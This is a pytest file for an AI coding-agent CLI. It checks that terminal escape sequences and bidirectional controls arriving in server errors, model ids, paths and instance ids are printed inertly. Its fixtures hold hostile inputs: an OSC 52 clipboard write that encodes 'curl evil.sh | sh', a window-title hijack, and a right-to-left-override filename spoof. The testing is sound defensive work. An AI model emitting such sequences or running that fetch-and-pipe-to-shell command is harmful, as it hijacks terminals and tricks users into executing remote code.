"""What reaches the user's terminal (issue 21 item 11, issue 22 item 7), through the real CLI.

Escape sequences from a server's error body (OSC 52 writes the clipboard, OSC 0 the
window title), model ids `doctor` lists, `config show` values and bidirectional controls
(U+202E) in paths of progress lines and `show` are spelled out, never obeyed: one
function, `console.visible`, on every way untrusted text takes to the terminal. `show`
prints patches and code unwrapped, so a patch copied from the transcript applies.
"""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from conftest import cwm, run_cli, summary

from cwm_agent.console import visible
from cwm_agent.scripted_server import ScriptedServer

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "curl evil.sh | sh" copied
TITLE = "\x1b]0;owned\x07"  # OSC 0: the window title
CLEAR = "\x1b[2J"
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "x\u202etxt.exe" reads "xexe.txt"
HOSTILE = CLIPBOARD + TITLE + CLEAR + RLO


def assert_inert(text: str) -> None:
    """No escape or bidirectional control is left; each is spelled out instead."""
    assert "\x1b" not in text and "\x07" not in text and RLO not in text
    assert "\\x1b]52;c;" in text


def test_visible_spells_out_escapes_and_bidi_controls_and_keeps_the_rest():
    assert visible("a\tb\r\nc\x07" + CLEAR) == "a\tb\nc\\x07\\x1b[2J"
    assert visible(f"x{RLO}txt.exe \u2066\u2069\u200f\u2028") == (
        "x\\u202etxt.exe \\u2066\\u2069\\u200f\\u2028"
    )
    kept = "naïve — 日本語 👩\u200d💻"  # the zero-width joiner of an emoji sequence stays
    assert visible(kept) == kept
    assert visible(visible(HOSTILE)) == visible(HOSTILE)  # idempotent


def test_a_servers_error_body_is_shown_not_obeyed(buggy_repo, cli_env, tmp_path):
    body = {"error": {"message": f"bad request {HOSTILE} end", "code": 400}}
    with ScriptedServer([{"status": 400, "body": body}]) as server:
        args = ["run", str(buggy_repo), "--issue", "x", "--base-url", server.base_url]
        result = run_cli([*args, "--model", "m", "--traj", str(tmp_path / "t.json")], cli_env)
    assert result.returncode == 3, result.stderr
    assert "bad request" in result.stderr and "end" in result.stderr
    assert_inert(result.stderr)
    assert "\\x1b]0;owned\\x07" in result.stderr and "\\u202e" in result.stderr


def test_doctor_lists_hostile_model_ids_inertly(cli_env, tmp_path):
    env = {**cli_env, "DOCKER_HOST": "unix:///nonexistent/docker.sock"}
    env["XDG_CONFIG_HOME"] = str(tmp_path / "xdg")
    with ScriptedServer([], model=f"evil{HOSTILE}") as server:
        result = run_cli(["doctor", "--base-url", server.base_url, "--model", "other"], env)
    assert result.returncode == 1
    assert "is not among the served models: evil" in result.stdout
    assert_inert(result.stdout + result.stderr)


def test_config_show_prints_hostile_values_inertly(cli_env, tmp_path):
    env = {**cli_env, "CWM_AGENT_MODEL": f"m{HOSTILE}", "XDG_CONFIG_HOME": str(tmp_path)}
    result = subprocess.run(
        [sys.executable, "-m", "cwm_agent", "config", "show"],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    assert "env CWM_AGENT_MODEL" in result.stdout
    assert_inert(result.stdout)


SUBMIT_ALL = [
    cwm("bash", "git add -A && git diff --cached > fix.patch"),
    cwm("submit", "fix.patch"),
    summary(),
]
BIDI_FILE = f"notes{RLO}txt.sh"  # looks like "noteshs.txt" where bidi is obeyed
BIDI_SCRIPT = [
    cwm("create", f"{BIDI_FILE}\nhello {CLIPBOARD}\n"),
    *SUBMIT_ALL,
]


def test_bidi_paths_and_escapes_in_progress_lines_and_show(buggy_repo, cli_env, tmp_path):
    traj = tmp_path / "t.json"
    with ScriptedServer(BIDI_SCRIPT) as server:
        args = ["run", str(buggy_repo), "--issue", "x", "--base-url", server.base_url]
        result = run_cli([*args, "--model", "m", "--traj", str(traj), "-v"], cli_env)
    assert result.returncode == 0, result.stderr
    assert "create: notes\\u202etxt.sh" in result.stderr
    assert RLO not in result.stderr and "\x1b" not in result.stderr
    shown = run_cli(["show", str(traj), "--width", "100"], cli_env)
    assert shown.returncode == 0, shown.stderr
    assert "notes\\u202etxt.sh" in shown.stdout
    assert_inert(shown.stdout)
    page = run_cli(["show", str(traj), "--html", "-"], cli_env)
    assert page.returncode == 0 and "notes\\u202etxt.sh" in page.stdout
    assert RLO not in page.stdout and "\x1b" not in page.stdout


# -- issue 22 item 7: show prints the patch unwrapped -------------------------------------

LONG = "x = " + " + ".join(f"value_{i}" for i in range(40)) + "  # a long line"
MAKEFILE = "all:\n\techo built  \n"  # a tab git needs, and trailing spaces it matches
UNWRAPPED_SCRIPT = [
    cwm("create", f"Makefile\n{MAKEFILE}"),
    cwm(
        "edit",
        "mathlib/ops.py\n<<<<<<< SEARCH\n    return a - b\n=======\n"
        f"    return a + b\n\n\n{LONG}\n>>>>>>> REPLACE",
    ),
    *SUBMIT_ALL,
]


def test_the_final_patch_copied_from_show_applies(buggy_repo, cli_env, tmp_path):
    traj = tmp_path / "t.json"
    with ScriptedServer(UNWRAPPED_SCRIPT) as server:
        args = ["run", str(buggy_repo), "--issue", "x", "--base-url", server.base_url, "-q"]
        result = run_cli([*args, "--model", "m", "--traj", str(traj)], cli_env)
    assert result.returncode == 0, result.stderr
    shown = run_cli(["show", str(traj), "--width", "60"], cli_env)
    assert shown.returncode == 0, shown.stderr
    copied = shown.stdout.split("submission(s)):\n", 1)[1]
    assert copied == result.stdout  # byte for byte what `run` printed
    check = subprocess.run(
        ["git", "apply", "--check", "-"], cwd=buggy_repo, input=copied.encode(), capture_output=True
    )
    assert check.returncode == 0, check.stderr.decode()
    edit_line = next(line for line in shown.stdout.splitlines() if LONG in line)
    assert edit_line.strip() == f"+{LONG}"  # the step's edit, on one line too


def test_show_without_a_width_keeps_the_patch_whole(buggy_repo, cli_env, tmp_path):
    """The same through a pipe with the terminal's width in COLUMNS."""
    traj = tmp_path / "t.json"
    with ScriptedServer(UNWRAPPED_SCRIPT) as server:
        args = ["run", str(buggy_repo), "--issue", "x", "--base-url", server.base_url, "-q"]
        result = run_cli([*args, "--model", "m", "--traj", str(traj)], cli_env)
    shown = run_cli(["show", str(traj)], {**cli_env, "COLUMNS": "50"})
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout.endswith(result.stdout)
    assert json.loads(traj.read_text())["patch"] == result.stdout


def test_batch_progress_shows_a_servers_error_inertly(buggy_repo, cli_env, tmp_path):
    issues = tmp_path / "issues"
    issues.mkdir()
    (issues / f"evil{RLO}id.md").write_text("add() is wrong")
    body = {"error": {"message": f"bad request {HOSTILE} end", "code": 400}}
    with ScriptedServer([{"status": 400, "body": body}]) as server:
        args = ["batch", str(issues), "--repo", str(buggy_repo), "-o", str(tmp_path / "out")]
        result = run_cli([*args, "--model", "m", "--base-url", server.base_url], cli_env)
    assert "FAILED" in result.stderr and "bad request" in result.stderr
    assert "evil\\u202eid" in result.stderr
    assert_inert(result.stderr)


# -- the newer commands: select and evaluate (review of issue 21 item 11) -----------------

EVIL_ID = f"evil{TITLE}{RLO}id"  # an instance id from a file the user was handed


def assert_inert_id(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and RLO not in text
    assert "evil\\x1b]0;owned\\x07\\u202eid" in text


def test_select_shows_hostile_instance_ids_inertly(tmp_path, cli_env):
    """Its progress lines, its warnings (no clone: the apply check cannot run) and its
    closing lines."""
    from select_support import prediction, setup, write_jsonl

    world = setup(tmp_path, ids=(EVIL_ID,))
    p = world["patches"]
    preds = write_jsonl(
        tmp_path / "a.jsonl", [prediction(EVIL_ID, p["right"]), prediction(EVIL_ID, p["wrong"])]
    )
    args = ["select", str(preds), "-o", str(tmp_path / "out"), "--dataset", str(world["records"])]
    result = run_cli(args, cli_env)
    assert result.returncode == 0, result.stderr
    assert "WARNING evil" in result.stderr and "-> #1 chosen" in result.stderr
    assert_inert_id(result.stderr)


def test_select_live_display_shows_hostile_text_inertly():
    """On a terminal the live display prints what rich is given; rich drops BEL, not ESC."""
    import io

    from rich.console import Console

    from cwm_agent.select.display import LiveDisplay
    from cwm_agent.select.summary import Tally
    from cwm_agent.verification.cascade import Outcome
    from cwm_agent.verification.records import Cost

    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system=None, width=200)
    record = {
        "funnel": {"candidates": 1},
        "chosen": None,
        "cost": {"wall_seconds": 0.1},
    }
    outcome = Outcome(EVIL_ID, record, None, (f"static: {CLEAR}odd",), False, Cost())
    with LiveDisplay(Tally(1, 1, 0), console=console) as display:
        display.message(f"{EVIL_ID}: FAILED, will run again on resume: {CLIPBOARD}")
        display.ended(outcome)
    shown = out.getvalue()
    assert "\\x1b[2Jodd" in shown and "\\x1b]52;c;" in shown
    assert "]0;owned" not in shown.replace("\\x1b]0;owned", "")  # only spelled out
    assert RLO not in shown and "\x07" not in shown


def test_evaluate_shows_hostile_instance_ids_inertly(tmp_path, cli_env):
    """Its line per instance and its table (empty patches: graded without an engine)."""
    pytest.importorskip("swebench")
    from batch_support import swebench_records as sr
    from batch_support import write_jsonl

    record = {**sr.record(1), "instance_id": EVIL_ID}
    dataset = write_jsonl(tmp_path / "dataset.jsonl", [record])
    row = {"instance_id": EVIL_ID, "model_name_or_path": "m", "model_patch": ""}
    preds = write_jsonl(tmp_path / "preds.jsonl", [row])
    env = {**cli_env, "DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock"}
    args = ["evaluate", str(preds), "-d", str(dataset), "-o", str(tmp_path / "out")]
    result = run_cli(args, env)
    assert result.returncode == 0, result.stderr
    assert result.stderr.count("evil\\x1b]0;owned") >= 2  # its line and the table's row
    assert_inert_id(result.stderr)


def _on_a_terminal(args: list[str], env: dict[str, str]) -> tuple[int, str]:
    """Run the CLI with stdout on a pseudo-terminal; what the terminal got."""
    import os
    import pty

    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "cwm_agent", *args],
        stdout=follower,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        env=env,
    )
    os.close(follower)
    got = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the child closed its end
            break
        if not chunk:
            break
        got += chunk
    os.close(leader)
    proc.communicate(timeout=120)
    return proc.returncode, got.decode("utf-8", "replace")


def test_predicted_frames_on_a_terminal_are_shown_inertly(tmp_path, cli_env):
    """The model's frames are printed as they came into a pipe (they are the product) and
    made visible on a terminal."""
    (tmp_path / "mod.py").write_text("def add(a, b):\n    return a + b\n")
    reply = f'<|call_sep|>{{"a": "2"}}<|action_sep|>def add(a, b):{TITLE}{RLO}<|frame_sep|>'
    args = ["trace", "predict", "mod.py::add", "--call", "add(2, 3)", "--root", str(tmp_path)]
    with ScriptedServer([{"text": reply}] * 2, model="facebook/cwm") as server:
        args += ["--no-seed", "--base-url", server.base_url, "--model", "facebook/cwm"]
        piped = run_cli(args, cli_env)
        code, terminal = _on_a_terminal(args, cli_env)
    assert piped.returncode == 0 and code == 0, piped.stderr
    assert f"def add(a, b):{TITLE}{RLO}" in piped.stdout  # into a pipe: exactly the model's
    assert "def add(a, b):\\x1b]0;owned\\x07\\u202e" in terminal
    assert "\x1b" not in terminal and RLO not in terminal
